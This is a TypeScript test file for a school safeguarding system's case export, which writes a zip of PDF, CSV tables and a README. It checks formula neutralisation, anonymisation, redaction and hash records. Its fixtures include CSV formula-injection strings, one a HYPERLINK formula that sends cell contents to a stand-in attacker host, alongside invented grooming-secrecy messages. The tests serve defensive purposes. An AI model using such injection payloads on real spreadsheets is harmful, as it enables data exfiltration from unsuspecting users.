import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { fromBufferPromise } from 'yauzl';
import { CaseModel } from '../../models/case.js';
import { UserModel } from '../../models/user.js';
import { addNote, decide } from '../../services/cases/decide.js';
import { readRecord, verifyRecord } from '../../services/cases/record.js';
import { zipOf } from '../../services/export/bundle.js';
import { composeExport } from '../../services/export/compose.js';
import { type Material, readMaterial } from '../../services/export/material.js';
import { noteExport, noteStayed } from '../../services/export/note.js';
import { caseFacts } from '../../services/export/pack/case-facts.js';
import { CASE_COLUMNS } from '../../services/export/pack/case-table.js';
import { CHRONOLOGY_COLUMNS } from '../../services/export/pack/chronology-table.js';
import { MESSAGE_COLUMNS } from '../../services/export/pack/message-table.js';
import { packFiles } from '../../services/export/pack/pack.js';
import { peopleOf } from '../../services/export/people.js';
import { type ExportPlan, entryRef, type PersonChoice, partKeys } from '../../services/export/plan.js';
import { isPack, packName } from '../../services/hand-over/pack-name.js';
import { handOverError } from '../../services/hand-over/trouble.js';
import { sha256 } from '../../services/record/chain.js';
import { countAccess } from '../../services/reports/count/access.js';
import { KeyRing } from '../../services/store/seal.js';
import { useDatabase } from '../support/database.js';
import { seedAccounts, seedMessages, seedSchool } from '../support/seed.js';

const keys = new KeyRing(KeyRing.newContent());
/** The clocks of London are an hour ahead of UTC. */
const now = new Date('2026-06-23T10:00:00.000Z');
const PDF = Buffer.from('%PDF-1.7 as it is exported by itself');
const NAMED: PersonChoice = { named: true, words: true, also: [] };
const NAMELESS: PersonChoice = { named: false, words: true, also: [] };

const SECRET = 'Best not mention it to "your mum", ok?';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
const ARABIC = 'لا تخبر أحدا، هذا سرنا';
const LONG = `${'word '.repeat(9_000)}👩‍👩‍👧 the end`;

async function seedCase(): Promise<void> {
  await seedSchool(now);
  await seedAccounts(now, ['head', 'lead']);
  const at = (minutes: number) => new Date(now.getTime() - 86_400_000 + minutes * 60_000);
  const secrecy = { code: 'grooming.secrecy', words: SECRET, severity: 'high' } as const;
  await seedMessages(
    'mailbox',
    [
      {
        from: 'p-1',
        to: 'm-1',
        at: at(0),
        subject: FORMULA,
        text: '@SUM(A1:A9)\nsecond line, with a comma\r\n"quoted"',
      },
      { from: 'm-1', to: 'p-1', at: at(5), subject: '+1+1', text: `Dana, ${SECRET} 🙂`, findings: [secrecy] },
      { from: 'p-1', to: 'm-1', at: at(6), subject: '\t=1+1', text: `-- ${ARABIC}\u202E` },
      { from: 'm-1', to: 'p-1', at: at(7), subject: '＝1+1', text: 'Ordinary.' },
      { from: 'm-1', to: 'p-1', at: at(8), subject: '+44 7700 900147', text: LONG },
    ],
    keys,
    now,
  );
  const about = await CaseModel.findOne({ lane: 'adult-conduct' }).lean();
  const head = await UserModel.findOne({ role: 'head' }).lean();
  assert.ok(about && head);
  await addNote(about._id, { id: 'n0', text: '=1+1 said Dana Reeve’s mother.\nShe was calm.' }, head, now, keys);
  const review = { id: 'd0', kind: 'start-review', verdict: null, note: '' } as const;
  await decide(about._id, review, head, new Date(now.getTime() + 60_000), keys);
  const close = { id: 'd1', kind: 'no-further-action', verdict: 'no', note: 'A lesson plan.' } as const;
  await decide(about._id, close, head, new Date(now.getTime() + 120_000), keys);
}

/** As whoever receives it reads it: another library than the one that wrote it. */
async function unzipped(zip: Uint8Array): Promise<ReadonlyMap<string, Buffer>> {
  const file = await fromBufferPromise(Buffer.from(zip), { validateEntrySizes: true });
  const files = new Map<string, Buffer>();
  for await (const entry of file.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const chunk of await file.openReadStreamPromise(entry)) chunks.push(chunk);
    files.set(entry.fileName, Buffer.concat(chunks));
  }
  return files;
}

describe('a pack for another case system', () => {
  useDatabase();
  let material: Material;
  before(async () => {
    await seedCase();
    const about = await CaseModel.findOne({ lane: 'adult-conduct' }).lean();
    assert.ok(about);
    material = await readMaterial(about, keys, null);
  });

  const everybody = (choice: PersonChoice) => Object.fromEntries(peopleOf(material).map(({ ref }) => [ref, choice]));
  const packOf = async (more: Partial<ExportPlan> = {}) => {
    const begun = {
      purpose: 'lado',
      recipient: 'Jordan Ames, LADO',
      treatments: {},
      begunAt: now.toISOString(),
    } as const;
    const plan: ExportPlan = { ...begun, parts: [...partKeys], people: everybody(NAMED), ...more };
    const by = material.users.find(({ role }) => role === 'head') ?? assert.fail();
    const content = composeExport(material, { plan, by: { id: by._id, name: by.name }, at: now });
    const files = packFiles({ content, facts: caseFacts(material), pdf: PDF, timeZone: 'Europe/London' });
    const pack = await unzipped(zipOf(files, now));
    const text = (name: string) => pack.get(name)?.toString('utf8') ?? assert.fail(name);
    const table = (name: string): Record<string, string>[] => parse(text(name), { bom: true, columns: true });
    return {
      content,
      pack,
      text,
      table,
      all: [...pack.keys()]
        .filter(name => name !== `case-${content.about.number}.pdf`)
        .map(text)
        .join('\n'),
    };
  };

  it('holds the PDF as it is, tables and a README, and hashes that hold', async () => {
    const { content, pack, text } = await packOf();
    const pdf = `case-${content.about.number}.pdf`;
    assert.deepEqual([...pack.keys()], [pdf, 'case.csv', 'chronology.csv', 'messages.csv', 'README.txt']);
    assert.deepEqual(pack.get(pdf), PDF);
    const readme = text('README.txt');
    assert.match(readme, /CONFIDENTIAL\. Reporting restrictions may apply until charge \(Education Act 2002/);
    for (const [name, bytes] of pack)
      if (name !== 'README.txt') assert.ok(readme.includes(`${name}\r\n    ${sha256(bytes)}`), name);
    assert.doesNotMatch(readme, /[^\r]\n/);
    assert.doesNotMatch(readme, /Dana|Reeve|Corrigan|Jordan Ames/);
  });

  it('begins each table with the mark of UTF-8, ends lines as RFC 4180 has it, and keeps its columns', async () => {
    const { pack, text } = await packOf();
    const columns = { 'case.csv': CASE_COLUMNS, 'chronology.csv': CHRONOLOGY_COLUMNS, 'messages.csv': MESSAGE_COLUMNS };
    for (const [name, expected] of Object.entries(columns)) {
      assert.deepEqual([...(pack.get(name)?.subarray(0, 3) ?? [])], [0xef, 0xbb, 0xbf], name);
      assert.equal(text(name).split('\r\n')[0], `\uFEFF${expected.join(',')}`, name);
      assert.ok(text(name).endsWith('\r\n'), name);
      const strict = { bom: true, record_delimiter: '\r\n', relax_column_count: false, relax_quotes: false } as const;
      assert.ok(parse(text(name), strict).length > 1, name);
    }
  });

  it('says in one line what the case is, with times of the school and of UTC', async () => {
    const { content, table } = await packOf();
    const [about = assert.fail(), ...more] = table('case.csv');
    assert.deepEqual(more, []);
    assert.equal(about.case_number, content.about.number);
    assert.deepEqual([about.lane, about.concern, about.severity], ['Adult conduct', 'Conduct of an adult', 'High']);
    assert.deepEqual(
      [about.concern_codes, about.state, about.time_zone],
      ['grooming.secrecy', 'Closed', 'Europe/London'],
    );
    assert.equal(about.about, 'Alex Corrigan; Dana Reeve');
    assert.deepEqual(
      [about.acknowledged_local, about.acknowledged_utc],
      ['2026-06-23 11:01:00', '2026-06-23T10:01:00.000Z'],
    );
    assert.deepEqual([about.decided_local, about.decided_utc], ['2026-06-23 11:02:00', '2026-06-23T10:02:00.000Z']);
    assert.deepEqual([about.closed_local, about.closed_utc], ['2026-06-23 11:02:00', '2026-06-23T10:02:00.000Z']);
    assert.deepEqual([about.purpose, about.recipient], [content.about.exported.purpose, 'Jordan Ames, LADO']);
    assert.match(about.restriction ?? '', /section 141F/);
  });

  it('makes formulas harmless in every column, and keeps telephone numbers', async () => {
    const { table } = await packOf();
    const messages = table('messages.csv');
    assert.deepEqual([...new Set(messages.map(({ subject }) => subject))].filter(Boolean), [
      `'${FORMULA}`,
      "'+1+1",
      "'\t=1+1",
      "'＝1+1",
      '+44 7700 900147',
    ]);
    const notes = table('chronology.csv').filter(({ details }) => /was calm/.test(details ?? ''));
    assert.match(notes[0]?.details ?? '', /^'=1\+1 said/);
    for (const name of ['case.csv', 'chronology.csv', 'messages.csv'])
      for (const line of table(name))
        for (const [column, cell] of Object.entries(line))
          assert.doesNotMatch(cell, /^[=@\t\r\n＝]|^[+-](?![\d\s()-]*$)/, `${name} ${column}`);
  });

  it('keeps line breaks, quotes, emoji and Arabic, and names what cannot be seen', async () => {
    const { table } = await packOf();
    const [first, second, third] = table('messages.csv');
    assert.equal(first?.text, '\'@SUM(A1:A9)\nsecond line, with a comma\n"quoted"');
    assert.equal(second?.text, `Dana, ${SECRET} 🙂`);
    assert.equal(third?.text, `'-- ${ARABIC}‹U+202E›`);
    assert.deepEqual([second?.from, second?.to, second?.state], ['Alex Corrigan', 'Dana Reeve', 'whole']);
    assert.notEqual(second?.found, '');
  });

  it('continues a message that no cell of a spreadsheet holds, and loses nothing of it', async () => {
    const { table } = await packOf();
    const lines = table('messages.csv');
    const long = lines.filter(({ message_id }) => message_id === lines.at(-1)?.message_id);
    assert.deepEqual(
      long.map(({ piece }) => piece),
      ['1 of 2', '2 of 2'],
    );
    assert.equal(long.map(({ text }) => text).join(''), LONG);
    for (const line of lines) for (const cell of Object.values(line)) assert.ok(cell.length <= 32_767);
  });

  it('tells what happened in order, each entry with the hash that it has in the record', async () => {
    const { table, content } = await packOf();
    const lines = table('chronology.csv');
    const times = lines.map(({ when_utc }) => when_utc ?? '');
    assert.deepEqual(times, [...times].sort());
    assert.equal(lines.filter(({ kind }) => kind === 'message').length, content.messages.length);
    const entries = lines.filter(({ kind }) => kind === 'record');
    assert.deepEqual(
      entries.map(({ record_entry, entry_hash }) => [record_entry, entry_hash]).sort(),
      content.entries.map(({ seq, hash }) => [String(seq), hash]).sort(),
    );
    assert.equal(entries.find(({ details }) => details?.includes('A lesson plan.'))?.who, 'Ruth Okafor');
  });

  it('withholds in every table who is not named and what was blackened or left out', async () => {
    const note = material.record.find(({ entry }) => entry.kind === 'note')?.entry.seq ?? assert.fail();
    const [first, second] = material.thread;
    assert.ok(first && second);
    const { all, table } = await packOf({
      purpose: 'subject-access',
      people: everybody(NAMELESS),
      treatments: {
        [first.message._id]: { how: 'leave-out', passages: [], reason: '=About somebody else' },
        [second.message._id]: { how: 'passages', passages: [SECRET], reason: 'In confidence' },
        [entryRef(note)]: { how: 'leave-out', passages: [], reason: 'Told in confidence' },
      },
    });
    for (const hidden of ['Dana', 'Reeve', 'Corrigan', 'Okafor', 'SUM', 'HYPERLINK', 'not mention', 'was calm'])
      assert.equal(all.includes(hidden), false, hidden);
    const [about] = table('case.csv');
    assert.match(about?.about ?? '', /^Mentor \d+; Pupil \d+$/);
    assert.equal(about?.redacted, 'yes');
    const [left, blackened] = table('messages.csv');
    assert.deepEqual(
      [left?.state, left?.from, left?.text, left?.reason],
      ['left-out', '', '', "'=About somebody else"],
    );
    assert.match(blackened?.text ?? '', /█/);
    const told = table('chronology.csv').map(({ what, details }) => `${what}: ${details}`);
    assert.ok(told.includes('An entry is left out: Reason: Told in confidence'));
    assert.ok(told.includes('A message is left out: Reason: =About somebody else'));
  });

  it('has no table of messages without messages, and says how much of the record is not in it', async () => {
    const { pack, table, text } = await packOf({ parts: ['decisions'] });
    assert.equal(pack.has('messages.csv'), false);
    assert.equal(text('README.txt').includes('messages.csv'), false);
    const lines = table('chronology.csv');
    assert.ok(lines.every(({ kind }) => kind === 'record') && lines.length > 0);
    assert.equal(table('case.csv')[0]?.concern_codes, '', 'findings were not chosen');
    const missing = material.record.length - lines.length;
    assert.ok(missing > 0 && new RegExp(`${missing} (entry|entries) of the record`).test(text('README.txt')));
  });

  it('is corrected in both records when it could not be put into its folder, and counts as none then', async () => {
    const { content } = await packOf();
    const number = content.about.number;
    const head = material.users.find(({ role }) => role === 'head') ?? assert.fail();
    const plan: ExportPlan = {
      ...{ purpose: 'lado', recipient: 'Jordan Ames', parts: ['decisions'], people: null, treatments: {} },
      begunAt: now.toISOString(),
    };
    const exported = {
      caseId: number,
      plan,
      format: 'pack',
      way: 'folder',
      sha256: 'a'.repeat(64),
      redacted: false,
    } as const;
    const day = { begins: new Date(now.getTime() - 1), ends: new Date(now.getTime() + 86_400_000) };
    await noteExport(exported, head, now, keys);
    assert.equal((await countAccess({}, day)).exported, 1);
    await noteStayed(exported, handOverError('HAND_OVER_NO_SPACE'), head, now, keys);
    await noteStayed(exported, handOverError('HAND_OVER_NO_SPACE'), head, now, keys);
    for (const record of [number, 'access']) {
      const entries = await readRecord(record, keys);
      const said = entries.find(({ kind }) => kind === 'exported');
      const corrections = entries.filter(({ kind }) => kind === 'correction');
      assert.deepEqual(
        corrections.map(({ body }) => [body.of, body.reason]),
        [[said?.seq, 'There is no room left in the folder for the other system.']],
      );
      assert.equal(await verifyRecord(record, keys), null);
    }
    assert.equal((await countAccess({}, day)).exported, 0);
  });

  it('is named by its case and its instant', () => {
    assert.equal(packName('2026-0187', now), 'case-2026-0187-20260623T100000000Z.zip');
    assert.ok(isPack(packName('2026-0187', now)));
    for (const other of [
      'case-2026-0187-2026-06-23.zip',
      'notes.zip',
      '.case-2026-0187-20260623T100000000Z.zip.a.partial',
    ])
      assert.equal(isPack(other), false, other);
  });
});
